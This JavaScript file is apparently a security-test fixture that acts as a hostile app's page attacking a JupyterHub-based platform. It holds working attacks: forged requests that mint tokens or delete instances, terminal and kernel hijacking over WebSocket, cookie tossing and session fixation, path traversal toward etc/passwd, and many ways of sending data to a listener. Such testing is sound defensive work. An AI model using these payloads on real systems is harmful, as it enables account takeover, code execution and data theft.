// What a hostile AVI's page tries. Each attack gets the scene (addresses, ids, a marker of its own) and returns what it
// got hold of, or an empty string; whether it did harm is judged by the tests at the victim's side.
(() => {
  const pause = (ms) => new Promise((done) => setTimeout(done, ms));
  const element = (tag, attributes, parent = document.body) => {
    const made = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
    parent.append(made);
    return made;
  };
  const tried = async (attempt) => {
    try {
      return (await attempt()) ?? "";
    } catch {
      return "";
    }
  };
  const form = (action, fields, enctype = "application/x-www-form-urlencoded", method = "POST") => {
    const target = `t${Math.random()}`;
    const sent = element("form", { action, method, enctype, target });
    for (const [name, value] of Object.entries(fields)) element("input", { name, value }, sent);
    window.open("about:blank", target);
    sent.submit();
    return pause(600);
  };
  // a JSON body by a form: the "=" that text/plain puts between name and value hides in a string
  const jsonForm = (action, object) =>
    form(action, { [JSON.stringify(object).slice(0, -1) + ',"x":"']: '"}' }, "text/plain");
  const read = (url, options = {}) =>
    tried(async () => {
      const answer = await fetch(url, { credentials: "include", ...options });
      return answer.type === "opaque" ? "" : `${answer.status} ${(await answer.text()).slice(0, 200)}`;
    });
  const send = async (url, method, body) => {
    const got = await Promise.all([
      read(url, { method, body, headers: { "Content-Type": "application/json" } }),
      read(url, { method, body, headers: { "Content-Type": "text/plain" } }),
      read(url, { method: "POST", body, mode: "no-cors" }),
    ]);
    return got.filter(Boolean).join();
  };
  const script = async (url) => {
    const opened = window.open(url);
    // its policy cuts the handle as soon as it has begun to load
    for (let i = 0; i < 80 && opened && !opened.closed; i += 1) await pause(100);
    const got = await tried(() => opened.document.documentElement.outerHTML.slice(0, 100));
    const href = await tried(() => opened.location.href);
    const worked = await tried(() => opened.eval("1"));
    const handle = opened && !opened.closed ? await tried(() => `handle of ${opened.length} frames`) : "";
    opened?.close();
    return [got, href === "about:blank" ? "" : href, worked, handle].filter(Boolean).join();
  };
  const socket = (url, messages) =>
    new Promise((done) => {
      try {
        const opened = new WebSocket(url);
        opened.onopen = async () => {
          for (const message of messages) opened.send(message);
          await pause(500);
          done("socket opened");
        };
        opened.onerror = opened.onclose = () => done("");
      } catch {
        done("");
      }
    });
  const toss = (domain, cookies, paths) => {
    for (const path of paths)
      for (const [name, value] of Object.entries(cookies))
        for (const secure of ["", "; Secure"])
          document.cookie = `${name}=${value}; Domain=${domain}; Path=${path}${secure}`;
  };
  const kernelMessage = (code) =>
    JSON.stringify({
      header: { msg_id: "m", username: "", session: "s", msg_type: "execute_request", version: "5.3", date: "" },
      parent_header: {},
      metadata: {},
      channel: "shell",
      content: { code, silent: false, store_history: false, user_expressions: {}, allow_stdin: false },
    });

  const attacks = {
    // -- windows --
    script_lab_by_popup: (s) => script(s.lab),
    script_portal_by_popup: (s) => script(s.portal),
    script_hub_by_popup: (s) => script(`${s.hub}/hub/token`),
    relax_document_domain: async (s) => {
      await tried(() => (document.domain = s.domain));
      return (document.domain === s.domain ? "domain relaxed" : "") + (await script(s.portal));
    },
    start_lab_by_link: async (s) => {
      window.open(`${s.hub}/hub/spawn/${s.owner}?opt-a=b`, "_blank", "noopener");
      await pause(1000);
      window.open(`${s.hub}/hub/spawn`, "_blank", "noopener,noreferrer");
      return pause(1000);
    },
    sign_out_by_link: async (s) => {
      window.open(`${s.hub}/hub/logout`, "_blank", "noopener");
      window.open(`${s.hub}/hub/logout`, "_blank", "noopener,noreferrer");
      window.open(`${s.lab}logout`, "_blank");
      await read(`${s.hub}/hub/logout`, { mode: "no-cors" });
      element("img", { src: `${s.hub}/hub/logout` });
      return pause(1000);
    },
    redirect_by_login_next: async (s) => {
      const there = s.listener.replace("http:", "");
      for (const next of [there, s.listener, `/${there}`, `/\\${there.slice(2)}`, `${s.own}phish`, `/hub/..${there}`])
        window.open(`${s.hub}/hub/login?next=${encodeURIComponent(`${next}/${s.marker}`)}`, "_blank", "noopener");
      return pause(1000);
    },
    // -- requests with the owner's cookies --
    mint_token_by_fetch: (s) =>
      send(`${s.hub}/hub/api/users/${s.owner}/tokens`, "POST", JSON.stringify({ note: s.marker })),
    mint_token_by_form: (s) => jsonForm(`${s.hub}/hub/api/users/${s.owner}/tokens`, { note: s.marker }),
    sign_in_as_attacker_by_form: (s) => {
      toss(s.domain, { _xsrf: s.attacker.xsrf }, ["/", "/hub", "/hub/", "/hub/login"]);
      const { username, password, xsrf } = s.attacker;
      return form(`${s.hub}/hub/login`, { username, password, _xsrf: xsrf });
    },
    read_portal_by_fetch: (s) => read(`${s.portal}api/v1/users/me`),
    read_across_origins: async (s) => {
      const urls = [`${s.hub}/hub/api/user`, `${s.hub}/hub/home`, s.portal, `${s.lab}api/contents`, s.other];
      const got = await Promise.all(urls.map((url) => read(url)));
      return got.filter(Boolean).join();
    },
    open_another_avi: async (s) => {
      const got = await send(`${s.portal}api/v1/instances`, "POST", JSON.stringify({ avi: "gavip/third" }));
      await jsonForm(`${s.portal}api/v1/instances`, { avi: "gavip/third" });
      return got;
    },
    stop_other_instances: async (s) => {
      const got = await send(`${s.portal}api/v1/instances/${s.otherId}`, "DELETE");
      await form(`${s.portal}api/v1/instances/${s.otherId}?_method=DELETE`, { _method: "DELETE" });
      return got + (await send(`${s.hub}/hub/api/users/${s.otherUser}/server`, "DELETE"));
    },
    post_urlencoded_forms: (s) => attacks.post_forms(s, "application/x-www-form-urlencoded"),
    post_multipart_forms: (s) => attacks.post_forms(s, "multipart/form-data"),
    post_text_forms: (s) => attacks.post_forms(s, "text/plain"),
    post_forms: async (s, enctype) => {
      const json = { avi: "gavip/third", pipeline: "run", note: s.marker, type: "file", path: s.marker };
      const fields = enctype === "text/plain" ? { [JSON.stringify(json).slice(0, -1) + ',"x":"']: '"}' } : json;
      await Promise.all(
        [
          `${s.portal}api/v1/instances`,
          `${s.portal}api/v1/jobs`,
          `${s.hub}/hub/api/users/${s.owner}/tokens`,
          `${s.hub}/hub/spawn`,
          `${s.lab}api/contents`,
          `${s.lab}api/terminals`,
          `${s.lab}api/kernels`,
        ].map((url) => form(url, fields, enctype)),
      );
    },
    call_every_changing_route: async (s) => {
      const got = [];
      for (const [method, url] of s.changing) {
        got.push(await send(url, method, "{}"));
        const sent = element("form", { action: url, method: "POST", target: "sink" });
        if (!document.querySelector("iframe[name=sink]")) element("iframe", { name: "sink" });
        sent.submit();
        await pause(30);
      }
      return got.filter(Boolean).join();
    },
    shut_down_anothers_kernel: (s) => send(`${s.other}voila/api/shutdown/${s.otherKernel}`, "POST", ""),
    download_the_users_files: async (s) => {
      const url = `${s.portal}api/v1/files/content?path=${s.secret}`;
      const got = await read(url);
      window.open(url, "_blank", "noopener");
      element("a", { href: url, download: "x", target: "_blank" }).click();
      element("iframe", { src: url });
      element("img", { src: `${url}&inline=1` });
      await pause(1000);
      return got;
    },
    // -- sockets --
    hijack_lab_terminal: (s) =>
      socket(`${s.lab.replace("http", "ws")}terminals/websocket/${s.terminal}`, [
        JSON.stringify(["stdin", `touch ${s.marker}\r`]),
      ]),
    hijack_lab_kernel: (s) =>
      socket(`${s.lab.replace("http", "ws")}api/kernels/${s.kernel}/channels`, [
        kernelMessage(`open('${s.marker}', 'w')`),
      ]),
    hijack_anothers_kernel: (s) =>
      socket(`${s.other.replace("http", "ws")}api/kernels/${s.otherKernel}/channels`, [
        kernelMessage(`open('${s.marker}', 'w')`),
      ]),
    // -- frames --
    frame: async (s, url) => {
      element("iframe", { src: url, name: s.marker });
      await pause(1000);
    },
    frame_the_portal: (s) => attacks.frame(s, s.portal),
    frame_the_sign_in: (s) => attacks.frame(s, `${s.hub}/hub/login`),
    frame_the_tokens: (s) => attacks.frame(s, `${s.hub}/hub/token`),
    frame_lab: (s) => attacks.frame(s, s.lab),
    frame_another_avi: (s) => attacks.frame(s, s.other),
    message_the_embedding_page: async (s) => {
      for (const type of ["gavip:stop", "gavip:open", "open", "navigate", "ready"])
        window.parent.postMessage({ type, instance: s.otherId, url: `${s.listener}/${s.marker}` }, "*");
      await tried(() => (window.top.location = `${s.listener}/${s.marker}`));
      await pause(600);
      return tried(() => window.parent.document.title || "read the page");
    },
    // -- cookies --
    toss_the_attackers_session: async (s) => {
      toss(s.domain, { ...s.attacker.cookies, "jupyterhub-hub-login": s.attacker.login }, [
        "/", "/hub", "/hub/", "/services", "/services/portal/", "/user",
      ]);
    },
    fix_a_session: async (s) => {
      toss(s.domain, { "jupyterhub-session-id": s.marker, "__Host-jupyterhub-session-id": s.marker }, ["/", "/hub/"]);
    },
    break_xsrf_tokens: async (s) => {
      toss(s.domain, { _xsrf: s.attacker.xsrf, "__Host-_xsrf": s.attacker.xsrf, "__host-_xsrf": "x" }, [
        "/", "/hub", "/hub/", "/hub/login", "/services/portal/", "/services/portal/api/v1",
      ]);
    },
    read_the_platforms_cookies: async () =>
      document.cookie
        .split("; ")
        .filter((cookie) => /hub-login|service-portal|session-id/.test(cookie))
        .join(),
    // -- its own origin --
    register_a_service_worker: async (s) => {
      const source = URL.createObjectURL(new Blob(["onfetch = () => {}"], { type: "text/javascript" }));
      const scripts = [...document.scripts].map((found) => found.src).filter((url) => url.startsWith(location.origin));
      const got = [];
      for (const url of [source, ...scripts, `${s.own}voila/static/voila.js`, `${s.own}voila/static/main.js`])
        got.push(await tried(async () => (await navigator.serviceWorker.register(url)) && `worker ${url}`));
      return got.filter(Boolean).join();
    },
    reach_others_by_path: async (s) => {
      const base = new URL(s.own).pathname;
      const paths = [
        "/hub/api/user", "/hub/home", "/hub/login", "//hub/login", "/hub//login", "/%68ub/login", "/HUB/login",
        "/services/portal/api/v1/users/me", "/services/portal/", "/user/" + s.owner + "/api/contents",
        base + "../../hub/api/user", base + "..%2f..%2fhub/api/user", base + "%2e%2e/%2e%2e/hub/api/user",
        base + "..;/..;/hub/api/user", base + "..\\..\\hub\\api\\user", base + "%252e%252e/hub/api/user",
        base + "oauth_callback/../../../hub/login", base + "?user=" + s.owner + "&next=/hub/api/user",
        "/" + s.hub.slice(7) + "/hub/api/user", "/@" + s.hub.slice(7) + "/hub/login", "/avi-%00/hub/login",
        base + "api/kernels", base + "voila/files/avi.yaml", base + "static/..%2f..%2f..%2fetc/passwd",
      ];
      const wanted = new RegExp(`"name": ?"${s.owner}"|type="password"|root:x:|hub/logout|"kernel"|avi: 1`);
      const got = [];
      for (const path of paths) {
        const text = await tried(async () => (await fetch(location.origin + path, { credentials: "include" })).text());
        if (wanted.test(text)) got.push(path);
      }
      return got.join();
    },
  };

  // Ways out: each sends the marker to the listener, or shows it the browser's address.
  const ways = {
    image: (u) => element("img", { src: u }),
    style: (u) => element("div", { style: `background-image: url(${u})` }),
    stylesheet: (u) => element("style", {}).append(`@import url(${u});`),
    font: (u) => {
      element("style", {}).append(`@font-face { font-family: f${u.length}; src: url(${u}); }`);
      element("p", { style: `font-family: f${u.length}` }).append("text");
    },
    media: (u) => element("video", { src: u, autoplay: "", muted: "" }),
    script: (u) => element("script", { src: u }, document.head),
    module: (u) => import(u),
    object: (u) => element("object", { data: u }),
    frame: (u) => element("iframe", { src: u }),
    frame_of_a_frame: (u) => {
      const inner = element("iframe", { srcdoc: "<p>inner" });
      return pause(300).then(() => element("img", { src: u }, inner.contentDocument.body));
    },
    fetch: (u) => fetch(u, { mode: "no-cors" }),
    xhr: (u) => {
      const request = new XMLHttpRequest();
      request.open("POST", u);
      request.send("x");
    },
    beacon: (u) => navigator.sendBeacon(u, "x"),
    keepalive: (u) => fetch(u, { mode: "no-cors", keepalive: true, method: "POST", body: "x" }),
    event_source: (u) => new EventSource(u),
    web_socket: (u) => new WebSocket(u.replace("http", "ws")),
    worker: (u) => new Worker(URL.createObjectURL(new Blob([`fetch("${u}", {mode: "no-cors"})`]))),
    prefetch: (u) => element("link", { rel: "prefetch", href: u }, document.head),
    preload: (u) => element("link", { rel: "preload", as: "image", href: u }, document.head),
    icon: (u) => element("link", { rel: "icon", href: u }, document.head),
    svg: (u) => (element("div", {}).innerHTML = `<svg><image href="${u}" width="9" height="9"/></svg>`),
    form_get: (u) => element("form", { action: u, target: "sink" }).submit(),
    form_post: (u) => element("form", { action: u, method: "post", target: "sink" }).submit(),
    ping: (u) => element("a", { href: "#x", ping: u }).click(),
    popup: (u) => void window.open(u, "_blank", "noopener"),
    popup_of_a_popup: (u) => void window.open("about:blank").eval(`fetch("${u}", {mode: "no-cors"})`),
    speculation: (u) =>
      element("script", { type: "speculationrules" }, document.head).append(
        JSON.stringify({ prefetch: [{ source: "list", urls: [u] }] }),
      ),
    refresh: (u) => element("meta", { "http-equiv": "refresh", content: `0;url=${u}` }, document.head),
    navigation: (u) => void (location.href = u),
    // carries no path: the listener has a port of its own for it
    stun: async (u) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: u }] });
      peer.createDataChannel("x");
      await peer.setLocalDescription(await peer.createOffer());
    },
  };
  window.hostile = {
    attack: (name, scene) => attacks[name](scene),
    begin: (name, scene) => void (window.hostile.result = attacks[name](scene)),
    leave: (name, url) => void tried(() => ways[name](url)),
    ways: Object.keys(ways),
  };
})();
